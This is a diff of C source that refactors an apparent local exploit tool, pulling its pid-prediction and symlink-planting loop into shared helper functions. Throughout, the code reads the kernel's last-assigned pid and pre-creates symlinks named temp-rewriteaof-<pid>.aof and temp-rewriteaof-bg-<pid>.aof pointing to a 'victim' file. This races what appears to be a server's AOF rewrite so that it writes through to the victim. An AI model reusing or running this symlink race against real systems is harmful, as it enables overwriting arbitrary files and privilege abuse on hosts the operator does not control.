@@ -332,42 +332,64 @@ static long read_long(const char *path)
 /* Where the kernel's pid numbers start again after pid_max. */
 #define PID_WRAP_TO 300
 
+/* Keeps `temp-rewriteaof-<pid>.aof` and `temp-rewriteaof-bg-<pid>.aof`
+ * symlinks to a victim planted in a directory for the next AHEAD pids the
+ * kernel will hand out, following the pids as they are used. */
+struct planter {
+    int dir;
+    const char *victim;
+    long pid_max, first, last, next, planted;
+    /* Pids as a count that never wraps (u_*); `next` is the real next one. */
+    long long u_last, u_next;
+};
+
+static void planter_init(struct planter *p, int dir, const char *victim)
+{
+    p->dir = dir;
+    p->victim = victim;
+    p->pid_max = read_long("/proc/sys/kernel/pid_max");
+    p->last = read_long("/proc/sys/kernel/ns_last_pid");
+    p->first = p->last + 1;
+    p->u_last = 0;
+    p->u_next = 1;
+    p->next = p->last + 1 >= p->pid_max ? PID_WRAP_TO : p->last + 1;
+    p->planted = 0;
+}
+
+/* Plant up to AHEAD pids past the last one used, wait a moment, and note
+ * how far the kernel got meanwhile. */
+static void planter_step(struct planter *p)
+{
+    while (p->u_next <= p->u_last + AHEAD) {
+        char name[64];
+        snprintf(name, sizeof name, "temp-rewriteaof-%ld.aof", p->next);
+        if (symlinkat(p->victim, p->dir, name) == 0)
+            p->planted++;
+        snprintf(name, sizeof name, "temp-rewriteaof-bg-%ld.aof", p->next);
+        if (symlinkat(p->victim, p->dir, name) == 0)
+            p->planted++;
+        p->next = p->next + 1 >= p->pid_max ? PID_WRAP_TO : p->next + 1;
+        p->u_next++;
+    }
+    usleep(200);
+    long now = read_long("/proc/sys/kernel/ns_last_pid");
+    long delta = now - p->last;
+    if (delta < 0)
+        delta += p->pid_max - PID_WRAP_TO;
+    p->u_last += delta;
+    p->last = now;
+}
+
 static int plant_rewrite(char **a)
 {
-    const char *victim = a[1];
     in_dir(a[0]);
-    long pid_max = read_long("/proc/sys/kernel/pid_max");
-    long last = read_long("/proc/sys/kernel/ns_last_pid");
-    /* Pids as a count that never wraps (u_*), and the real next one. */
-    long long u_last = 0, u_next = 1;
-    long next = last + 1 >= pid_max ? PID_WRAP_TO : last + 1;
-    long planted = 0;
-    int is_armed = 0;
-    for (;;) {
-        while (u_next <= u_last + AHEAD) {
-            char name[64];
-            snprintf(name, sizeof name, "temp-rewriteaof-%ld.aof", next);
-            if (symlink(victim, name) == 0)
-                planted++;
-            snprintf(name, sizeof name, "temp-rewriteaof-bg-%ld.aof", next);
-            if (symlink(victim, name) == 0)
-                planted++;
-            next = next + 1 >= pid_max ? PID_WRAP_TO : next + 1;
-            u_next++;
-        }
-        if (!is_armed) {
-            say("planted %ld symlinks from pid %ld on", planted, last + 1);
-            armed(a[-1]);
-            is_armed = 1;
-        }
-        usleep(200);
-        long now = read_long("/proc/sys/kernel/ns_last_pid");
-        long delta = now - last;
-        if (delta < 0)
-            delta += pid_max - PID_WRAP_TO;
-        u_last += delta;
-        last = now;
-    }
+    struct planter p;
+    planter_init(&p, AT_FDCWD, a[1]);
+    planter_step(&p);
+    say("planted %ld symlinks from pid %ld on", p.planted, p.first);
+    armed(a[-1]);
+    for (;;)
+        planter_step(&p);
     return 0;
 }
 
@@ -564,26 +586,15 @@ static int aof_build(char **a)
     probe_work_folder(work, aof);
 
     if (strcmp(variant, "plant") == 0) {
-        long pid_max = read_long("/proc/sys/kernel/pid_max");
-        long last = read_long("/proc/sys/kernel/ns_last_pid");
-        long long u_last = 0, u_next = 1;
-        long next = last + 1 >= pid_max ? PID_WRAP_TO : last + 1;
-        long planted = 0, rounds = 0;
+        struct planter p;
+        planter_init(&p, aof, victim_file);
+        long rounds = 0;
         int seen_dir = 0;
         for (;;) {
-            while (u_next <= u_last + AHEAD) {
-                char name[64];
-                snprintf(name, sizeof name, "temp-rewriteaof-%ld.aof", next);
-                if (symlinkat(victim_file, aof, name) == 0)
-                    planted++;
-                snprintf(name, sizeof name, "temp-rewriteaof-bg-%ld.aof", next);
-                if (symlinkat(victim_file, aof, name) == 0)
-                    planted++;
-                next = next + 1 >= pid_max ? PID_WRAP_TO : next + 1;
-                u_next++;
-            }
+            planter_step(&p);
+            long planted = p.planted;
             if (rounds++ == 0)
-                say("planted %ld symlinks in aof/ from pid %ld on", planted, last + 1);
+                say("planted %ld symlinks in aof/ from pid %ld on", planted, p.first);
             struct stat st;
             if (!seen_dir && fstatat(aof, AOF_DIR, &st, AT_SYMLINK_NOFOLLOW) == 0) {
                 seen_dir = 1;
@@ -594,13 +605,6 @@ static int aof_build(char **a)
                 say("aof/ was removed (%ld symlinks planted in all)", planted);
                 idle_forever();
             }
-            usleep(200);
-            long now = read_long("/proc/sys/kernel/ns_last_pid");
-            long delta = now - last;
-            if (delta < 0)
-                delta += pid_max - PID_WRAP_TO;
-            u_last += delta;
-            last = now;
         }
     }
 
